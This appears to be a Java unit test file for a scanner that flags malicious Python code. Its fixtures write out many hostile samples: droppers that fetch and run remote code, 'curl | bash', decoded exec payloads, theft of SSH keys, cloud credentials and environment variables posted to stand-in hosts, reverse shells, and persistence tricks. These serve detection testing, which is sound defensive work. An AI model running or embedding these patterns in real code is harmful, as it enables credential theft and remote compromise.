package dev.gatehouse.inspection.code;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.advisories.Indicator;
import dev.gatehouse.findings.Finding;
import dev.gatehouse.findings.Severity;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * For each rule sources that it must match, written in many ways, and near ones that it must not.
 */
class CodeInspectorTest {
  private static final String PRINT =
      Base64.getEncoder().encodeToString("print('hello')".getBytes(UTF_8));

  private final CodeInspector inspector =
      new CodeInspector(List.of(new Indicator("evil.invalid", "TEST-1", "an address")));

  private record Sample(String rule, String source) {}

  private static Sample sample(String rule, String... lines) {
    return new Sample(rule, String.join("\n", lines).replace("$PRINT", PRINT) + "\n");
  }

  private static final List<Sample> MATCHING =
      List.of(
          sample(
              "code-dropper",
              "import subprocess",
              "subprocess.run(['/tmp/c', '-s', 'https://x.invalid/a', '-o', '/tmp/a.py'])",
              "subprocess.run(['/tmp/p', '/tmp/a.py'])"),
          sample(
              "code-dropper",
              "import subprocess",
              "x = subprocess.run(['curl', 'https://x.invalid/a'], stdout=-1).stdout",
              "open('/tmp/a.py', 'wb').write(x)",
              "subprocess.Popen('nohup python3 /tmp/a.py &', shell=True)"),
          sample(
              "code-dropper",
              "import subprocess, urllib.request as u",
              "r = u.Request('https://x.invalid/a')",
              "exec(subprocess.check_output(['/tmp/c', '-s', r.full_url]))"),
          sample(
              "code-dropper",
              "import shutil",
              "open_ = __import__('urllib.request').request.urlopen",
              "shutil.copyfileobj(open_('https://x.invalid/a'), open('/tmp/a.py', 'wb'))",
              "__import__('os').system('python3 /tmp/a.py')"),
          sample("code-exec-decoded", "import base64", "exec(base64.b64decode('$PRINT'))"),
          sample("code-exec-decoded", "from base64 import *", "exec(b64decode('$PRINT').decode())"),
          sample(
              "code-exec-decoded",
              "import base64 as b",
              "x = b.b64decode(open('f').read())",
              "exec(x)"),
          sample(
              "code-exec-decoded",
              "e = exec",
              "d = __import__('base64').b64decode",
              "e(d('$PRINT'))"),
          sample(
              "code-exec-decoded",
              "import zlib, base64",
              "eval(compile(zlib.decompress(base64.b85decode(DATA)), '<s>', 'exec'))"),
          sample("code-exec-decoded", "import codecs", "exec(codecs.decode('cevag(1)', 'rot13'))"),
          sample("code-exec-decoded", "exec(bytes.fromhex('7072696e742831290a').decode())"),
          sample(
              "code-exec-decoded", "exec(''.join(chr(c) for c in [112,114,105,110,116,40,49,41]))"),
          sample("code-exec-decoded", "exec(''.join(map(chr, [112,114,105,110,116,40,49,41])))"),
          sample("code-exec-decoded", "exec(bytes([112,114,105,110,116,40,49,41]))"),
          sample("code-exec-decoded", "k = 7", "d = b'wuniu/6.'", "exec(bytes(c ^ k for c in d))"),
          sample(
              "code-exec-decoded",
              "out = bytearray()",
              "for i, c in enumerate(b'wuniu/6.'):",
              "    out.append(c ^ 7)",
              "exec(out.decode())"),
          sample(
              "code-exec-decoded",
              "def dec(s):",
              "    r = ''",
              "    for c in s:",
              "        r += chr(ord(c) ^ 7)",
              "    return r",
              "exec(dec('wuniu/6.'))"),
          sample(
              "code-exec-decoded",
              "import marshal, base64",
              "exec(marshal.loads(base64.b64decode(BLOB)))"),
          sample(
              "code-exec-decoded",
              "import base64",
              "class C:",
              "    def __init__(self, v):",
              "        self.v = base64.b64decode(v)",
              "    def go(self):",
              "        exec(self.v)",
              "C('$PRINT').go()"),
          sample(
              "code-exec-decoded",
              "import base64, functools",
              "run = functools.partial(exec)",
              "run(base64.b64decode('$PRINT'))"),
          sample(
              "code-exec-decoded",
              "import base64",
              "(lambda f, x: f(x))(exec, base64.b64decode('$PRINT'))"),
          sample(
              "code-exec-decoded",
              "import base64",
              "list(map(exec, [base64.b64decode('$PRINT')]))"),
          sample(
              "code-exec-decoded",
              "import base64, types",
              "types.FunctionType(compile(base64.b64decode('$PRINT'), '', 'exec'), {})()"),
          sample(
              "code-exec-decoded",
              "import base64",
              "@exec",
              "@base64.b64decode",
              "@lambda f: '$PRINT'",
              "def x(): pass"),
          sample(
              "code-exec-decoded",
              "import base64",
              "class M(type):",
              "    def __new__(m, n, b, d):",
              "        exec(base64.b64decode('$PRINT'))",
              "class C(metaclass=M): pass"),
          sample(
              "code-exec-decoded",
              "import base64, atexit",
              "def f():",
              "    exec(base64.b64decode('$PRINT'))",
              "atexit.register(f)"),
          sample(
              "code-exec-decoded",
              "import base64, threading",
              "threading.Thread(target=exec, args=(base64.b64decode('$PRINT'),)).start()"),
          sample(
              "code-exec-decoded",
              "from cryptography.fernet import Fernet",
              "exec(Fernet(KEY).decrypt(DATA))"),
          sample(
              "code-exec-decoded",
              "import timeit, base64",
              "timeit.timeit(base64.b64decode('$PRINT').decode(), number=1)"),
          sample("code-exec-decoded", "exec((0x7072696e742831290a).to_bytes(9, 'big'))"),
          sample(
              "code-exec-decoded",
              "if (x := __import__('base64').b64decode('$PRINT')):",
              "    exec(x)"),
          sample(
              "code-exec-decoded",
              "\ud835\uded1xec(__import__('base64').b64decode('$PRINT'))"
                  .replace("\ud835\uded1", "\uff45")),
          sample(
              "code-exec-decoded",
              "import base64 as \\",
              "   q",
              "exec \\",
              " (q.b64decode('$PRINT'))"),
          sample("code-hidden-call", "getattr(__builtins__, 'ex' + 'ec')('print(1)')"),
          sample("code-hidden-call", "__import__('so'[::-1]).getcwd()"),
          sample("code-hidden-call", "import os", "getattr(os, ''.join(['sys', 'tem']))('true')"),
          sample("code-hidden-call", "import os", "os.__dict__['sys' + 'tem']('true')"),
          sample(
              "code-hidden-call",
              "import builtins",
              "vars(builtins)['{}{}'.format('ev', 'al')]('1')"),
          sample(
              "code-hidden-call",
              "import importlib",
              "importlib.import_module('sub%s' % 'process').run('true')"),
          sample(
              "code-spawn-decoded",
              "import subprocess, sys, base64",
              "subprocess.Popen([sys.executable, '-c', base64.b64decode('$PRINT').decode()])"),
          sample("code-spawn-decoded", "import os", "os.system('echo $PRINT | base64 -d | sh')"),
          sample(
              "code-spawn-decoded",
              "import os, base64",
              "os.execvp('python3', ['python3', '-c', base64.b64decode('$PRINT')])"),
          sample(
              "code-spawn-decoded",
              "import subprocess, sys, base64",
              "p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)",
              "p.communicate(base64.b64decode('$PRINT'))"),
          sample(
              "code-exec-decoded",
              "import subprocess, sys",
              "subprocess.run([sys.executable, '-c', \"import base64;"
                  + " exec(base64.b64decode('$PRINT'))\"])"),
          sample(
              "code-credential-theft",
              "import os, requests",
              "out = {}",
              "for p in ['.ssh/id_rsa', '.aws/credentials', '.netrc']:",
              "    out[p] = open(os.path.expanduser('~/' + p)).read()",
              "requests.post('https://x.invalid', json=out)"),
          sample(
              "code-credential-theft",
              "from pathlib import Path",
              "import urllib.request",
              "k = (Path.home() / '.ssh' / 'id_ed25519').read_bytes()",
              "urllib.request.urlopen('https://x.invalid', data=k)"),
          sample(
              "code-environment-theft",
              "import os, json, urllib.request",
              "urllib.request.urlopen(urllib.request.Request('https://x.invalid',"
                  + " data=json.dumps(dict(os.environ)).encode()))"),
          sample(
              "code-environment-theft",
              "import os, requests",
              "requests.post('https://x.invalid', json={k: v for k, v in os.environ.items()})"),
          sample(
              "code-dropper",
              "import urllib.request",
              "exec(urllib.request.urlopen('https://x.invalid/a.py').read())"),
          sample(
              "code-dropper",
              "import urllib.request, subprocess, sys",
              "urllib.request.urlretrieve('https://x.invalid/a', '/tmp/a.pyz')",
              "subprocess.Popen([sys.executable, '/tmp/a.pyz'])"),
          sample("code-dropper", "import os", "os.system('curl -s https://x.invalid/i | bash')"),
          sample(
              "code-dropper",
              "import requests, os, tempfile, subprocess",
              "p = os.path.join(tempfile.gettempdir(), 'x')",
              "with open(p, 'wb') as f:",
              "    f.write(requests.get('https://x.invalid').content)",
              "os.chmod(p, 0o755)",
              "subprocess.Popen([p])"),
          sample(
              "code-persistence",
              "import os",
              "u = '[Service]\\nExecStart=/bin/true\\n'",
              "open(os.path.expanduser('~/.config/systemd/user/a.service'), 'w').write(u)"),
          sample(
              "code-persistence",
              "import os",
              "open(os.path.expanduser('~/.bashrc'), 'a').write('true\\n')"),
          sample(
              "code-persistence",
              "import winreg",
              "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER,"
                  + " r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
              "winreg.SetValueEx(k, 'a', 0, winreg.REG_SZ, 'b')"),
          sample(
              "code-persistence",
              "import os",
              "os.system('systemctl --user enable --now acme.service')"),
          sample(
              "code-privileged-pod",
              "pod = {'spec': {'containers': [{'securityContext': {'privileged': True}}],"
                  + " 'volumes': [{'hostPath': {'path': '/'}}]}}"),
          sample(
              "code-encrypted-upload",
              "import subprocess",
              "subprocess.run(['openssl', 'enc', '-aes-256-cbc', '-in', 'a'])",
              "subprocess.run(['curl', '-F', 'f=@a', 'https://x.invalid'])"),
          sample(
              "code-media-payload",
              "import wave",
              "w = wave.open('ring.wav')",
              "d = bytes(b ^ 3 for b in w.readframes(9))",
              "exec(d)"),
          sample(
              "code-foreign-runtime",
              "import urllib.request, subprocess",
              "urllib.request.urlretrieve('https://github.com/oven-sh/bun/releases/x.zip',"
                  + " 'b.zip')",
              "subprocess.run(['./bun', 'run', 'x.js'])"),
          sample(
              "code-reverse-shell",
              "import socket, os, pty",
              "s = socket.socket()",
              "s.connect(('x.invalid', 1))",
              "os.dup2(s.fileno(), 0)",
              "pty.spawn('/bin/sh')"),
          sample(
              "code-reverse-shell",
              "import os",
              "os.system('bash -i >& /dev/tcp/x.invalid/1 0>&1')"),
          sample(
              "code-encoded-powershell",
              "import subprocess",
              "subprocess.run('powershell -w hidden -enc aQBlAHgA')"),
          sample("known-indicator", "HOST = 'evil' + '.' + 'invalid'", "print(HOST)"),
          sample("code-offscreen", "x = 1;" + " ".repeat(200) + "import os"),
          sample("code-hidden-text", "# -*- coding: unicode_escape -*-", "x = 1"),
          sample(
              "code-startup-write",
              "import site",
              "open(site.getsitepackages()[0] + '/x.pth', 'w').write('import x')"),
          sample("code-tool-file-write", "open('.vscode/tasks.json', 'w').write('{}')"),
          sample(
              "code-literal-decoded",
              "import base64",
              "ICON = base64.b64decode('" + "QUJD".repeat(1100) + "')"),
          sample(
              "code-import-effects", "import subprocess", "subprocess.run(['git', 'describe'])"));

  private static final List<Sample> OTHER =
      List.of(
          sample(
              "code-dropper",
              "import subprocess",
              "subprocess.run(['pip', 'download', '-i', 'https://x.invalid', 'a'])",
              "subprocess.run(['tar', 'xf', 'a.tar'])"),
          sample(
              "code-dropper",
              "import subprocess",
              "subprocess.run(['curl', 'https://x.invalid/a', '-o', 'a.txt'])"),
          sample(
              "code-dropper",
              "import subprocess, urllib.request",
              "def f():",
              "    urllib.request.urlretrieve('https://x.invalid/a', '/tmp/a.tar')",
              "    subprocess.run(['tar', 'xf', '/tmp/a.tar'], stdout=subprocess.DEVNULL)"),
          sample(
              "code-exec-decoded",
              "import base64",
              "x = base64.b64decode('$PRINT')",
              "exec(open('f').read())"),
          sample("code-exec-decoded", "exec(b'x = 1'.decode('utf-8'))"),
          sample("code-exec-decoded", "exec('a' + 'b')"),
          sample("code-hidden-call", "getattr(__builtins__, 'exec')"),
          sample("code-hidden-call", "import os", "getattr(os, 'O_' + 'CLOEXEC', 0)"),
          sample(
              "code-hidden-call",
              "def f(self, name):",
              "    return getattr(self, 'visit_' + name)"),
          sample(
              "code-spawn-decoded",
              "import subprocess, sys",
              "subprocess.run([sys.executable, '-c', 'print(1)'])"),
          sample(
              "code-credential-theft",
              "import os",
              "KEYS = ['.ssh/id_rsa', '.aws/credentials', '.netrc']"),
          sample(
              "code-credential-theft",
              "import requests",
              "\"\"\"Reads ~/.ssh/id_rsa, ~/.aws/credentials and ~/.netrc.\"\"\"",
              "requests.get('https://x.invalid')"),
          sample(
              "code-environment-theft",
              "import os, subprocess",
              "subprocess.run(['git'], env=dict(os.environ, LANG='C'))"),
          sample(
              "code-environment-theft",
              "import os, requests",
              "requests.post('https://x.invalid', json={'v': os.environ.get('TERM')})"),
          sample(
              "code-dropper",
              "import urllib.request",
              "data = urllib.request.urlopen('https://x.invalid/a.json').read()"),
          sample(
              "code-dropper", "import os", "os.system('curl -s https://x.invalid/i -o data.json')"),
          sample("code-persistence", "PATH = '/etc/systemd/system'"),
          sample(
              "code-persistence",
              "import os",
              "def install_completion(line):",
              "    open(os.path.expanduser('~/.bashrc'), 'a').write(line)"),
          sample(
              "code-privileged-pod",
              "pod = {'securityContext': {'privileged': False}, 'hostPath': 1}"),
          sample(
              "code-encrypted-upload",
              "import subprocess",
              "subprocess.run(['openssl', 'enc', '-in', 'a'])"),
          sample("code-media-payload", "import wave", "w = wave.open('ring.wav').readframes(9)"),
          sample("code-foreign-runtime", "URL = 'https://github.com/oven-sh/bun/releases/x.zip'"),
          sample(
              "code-reverse-shell",
              "import socket",
              "s = socket.socket()",
              "s.connect(('x.invalid', 1))"),
          sample(
              "code-encoded-powershell",
              "import subprocess",
              "subprocess.run('powershell -file x.ps1')"),
          sample("known-indicator", "HOST = 'evil.example'"),
          sample("code-offscreen", "x = '" + " ".repeat(200) + "y'"),
          sample("code-hidden-text", "# -*- coding: latin-1 -*-"),
          sample("code-startup-write", "open('x.txt', 'w').write('import x')"),
          sample("code-tool-file-write", "open('.vscode/tasks.json').read()"),
          sample("code-literal-decoded", "import base64", "ICON = base64.b64decode('QUJD')"),
          sample(
              "code-import-effects",
              "import subprocess",
              "def f():",
              "    subprocess.run(['git', 'describe'])"));

  @TestFactory
  Stream<DynamicTest> eachRuleMatchesWhatItMust() {
    return MATCHING.stream()
        .map(
            sample ->
                DynamicTest.dynamicTest(
                    sample.rule + ": " + firstLines(sample),
                    () -> assertThat(rules(sample.source, Moment.IMPORT)).contains(sample.rule)));
  }

  @TestFactory
  Stream<DynamicTest> noRuleMatchesWhatIsNear() {
    return OTHER.stream()
        .map(
            sample ->
                DynamicTest.dynamicTest(
                    sample.rule + ": " + firstLines(sample),
                    () ->
                        assertThat(rules(sample.source, Moment.IMPORT))
                            .doesNotContain(sample.rule)));
  }

  @Test
  void everyRuleHasASampleThatMatchesAndOneThatDoesNot() {
    List<String> tried = List.of("code-webhook", "code-shellcode", "code-obfuscated-script");
    assertThat(CodeRules.ALL)
        .extracting(rule -> rule.name())
        .filteredOn(rule -> !tried.contains(rule))
        .allSatisfy(
            rule -> {
              assertThat(MATCHING).extracting(Sample::rule).contains(rule);
              assertThat(OTHER).extracting(Sample::rule).contains(rule);
            });
  }

  @Test
  void whatRunsByItselfBlocksAndWhatIsCalledIsHeld() {
    String call = "exec(__import__('base64').b64decode('%s'))".formatted(PRINT);

    assertThat(finding(call, Moment.IMPORT, "code-exec-decoded"))
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.CRITICAL))
        .satisfies(f -> assertThat(f.blocking()).isTrue())
        .satisfies(f -> assertThat(f.message()).contains("when it is imported"));
    assertThat(finding("def f():\n  " + call, Moment.IMPORT, "code-exec-decoded"))
        .satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.HIGH))
        .satisfies(f -> assertThat(f.blocking()).isFalse())
        .satisfies(f -> assertThat(f.line()).isEqualTo(2));
    assertThat(finding(call, Moment.CALL, "code-exec-decoded").severity())
        .isEqualTo(Severity.MEDIUM);
    assertThat(
            finding("if __name__ == '__main__':\n  " + call, Moment.IMPORT, "code-exec-decoded")
                .blocking())
        .isFalse();
    assertThat(
            finding("if __name__ == '__main__':\n  " + call, Moment.INSTALL, "code-exec-decoded")
                .blocking())
        .isTrue();
  }

  @Test
  void twoStrongRulesInOneFileBlock() {
    String source =
        """
        import os, requests
        def f():
            requests.post('https://x.invalid', json=dict(os.environ))
            exec(requests.get('https://x.invalid').text)
        """;

    assertThat(inspector.python("a.py", source.getBytes(UTF_8), Moment.IMPORT).findings())
        .filteredOn(Finding::blocking)
        .extracting(f -> f.rule().name())
        .containsExactlyInAnyOrder("code-environment-theft", "code-dropper");
  }

  @Test
  void layersAreOpenedOneByOne() {
    String inner = "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))";
    String source = inner;
    for (int i = 0; i < 5; i++) {
      source =
          "import base64\nexec(base64.b64decode('%s'))"
              .formatted(Base64.getEncoder().encodeToString(source.getBytes(UTF_8)));
    }

    assertThat(rules(source, Moment.IMPORT)).contains("code-environment-theft");
  }

  @Test
  void tooManyLayersAreAProblemAndNotSilence() {
    String source = "x = 1";
    for (int i = 0; i < 14; i++) {
      source =
          "import base64\nexec(base64.b64decode('%s'))"
              .formatted(Base64.getEncoder().encodeToString(source.getBytes(UTF_8)));
    }

    assertThat(inspector.python("a.py", source.getBytes(UTF_8), Moment.IMPORT).problems())
        .hasSize(1);
  }

  @Test
  void whatCannotBeReadAsPythonIsAProblem() {
    byte[] source = "x = 1\nthis is no python\ny = 2\n".getBytes(UTF_8);

    assertThat(inspector.python("a.py", source, Moment.IMPORT).problems())
        .singleElement()
        .satisfies(problem -> assertThat(problem.message()).contains("1 statements"));
    assertThat(inspector.python("a.py", source, Moment.CALL).problems()).isEmpty();
  }

  @Test
  void theDeclaredEncodingIsReadBeforeTheCodeIsJudged() {
    String hidden =
        "# coding: utf-7\n+AGUAeABlAGM-(__import__('base64').b64decode('cHJpbnQoMSk+AD0-'))";

    assertThat(finding(hidden, Moment.IMPORT, "code-exec-decoded").blocking()).isTrue();
    assertThat(rules(hidden.replace("utf-7", "utf-8"), Moment.IMPORT))
        .doesNotContain("code-exec-decoded");
    assertThat(rules("# coding: utf-7\nx = 1 +- 2\ny = '+AAA'\nz = '+'", Moment.IMPORT))
        .containsExactly("code-hidden-text");
  }

  @Test
  void hostileDepthEndsInAProblem() {
    for (String source :
        List.of(
            "x" + ".a()".repeat(900),
            "(".repeat(5_000),
            "[".repeat(280) + "]".repeat(280),
            "x = " + "-".repeat(100_000) + "1",
            "x = " + "1+".repeat(100_000) + "1",
            "def f(x):\n  return f(f(f(x)))\nf(f)",
            "x = 'a'\nwhile x == x:\n  x += x",
            "x = 2 ** 10 ** 10 ** 10",
            "x = 'a' * 10 ** 9",
            "f = lambda *a: f(f, *a)\nf(f)",
            "def f(*a):\n  return sorted([f, a], key=f)\nsorted([f], key=f)",
            "class A:\n  def __getattr__(s, n):\n    return getattr(s, n + 'x')\nA().x",
            "class A:\n  def __getitem__(s, i):\n    return s[i]\nA()[0]",
            "class A:\n  def __iter__(s):\n    return A()\nfor x in A():\n  list(A())",
            "class A:\n  def __del__(s):\n    A()\nA()",
            "import os\nwhile 1 < 2:\n  x = vars(os).items()\n  1 < 2",
            "import operator\nclass A:\n  x = property(operator.attrgetter('x'))\nA().x",
            "class A:\n  __getattr__ = getattr\nA = type('A', (A, A), {'__add__': A})\nA() + A().x",
            "class A: pass\nA.a = A()\nA.a.a = A",
            "x = []\nx.append(x)\nfor y in x:\n  x.append(y)\nprint(x)")) {
      assertThat(inspector.python("a.py", source.getBytes(UTF_8), Moment.IMPORT)).isNotNull();
    }
  }

  private List<String> rules(String source, Moment moment) {
    return inspector.python("a.py", source.getBytes(UTF_8), moment).findings().stream()
        .map(finding -> finding.rule().name())
        .toList();
  }

  private Finding finding(String source, Moment moment, String rule) {
    return inspector.python("a.py", source.getBytes(UTF_8), moment).findings().stream()
        .filter(finding -> finding.rule().name().equals(rule))
        .findFirst()
        .orElseThrow();
  }

  private static String firstLines(Sample sample) {
    return sample.source.substring(0, Math.min(80, sample.source.length())).replace('\n', ';');
  }

  @Test
  void whatAnExceptClauseNamesIsEvaluated() {
    assertThat(Judging.refusals("try:", "  1 / 0", "except PAYLOAD as e:", "  pass"))
        .contains("code-exec-decoded");
    assertThat(Judging.refusals("try:", "  1 / 0", "except (OSError, ValueError) as e:", "  pass"))
        .isEmpty();
  }
}
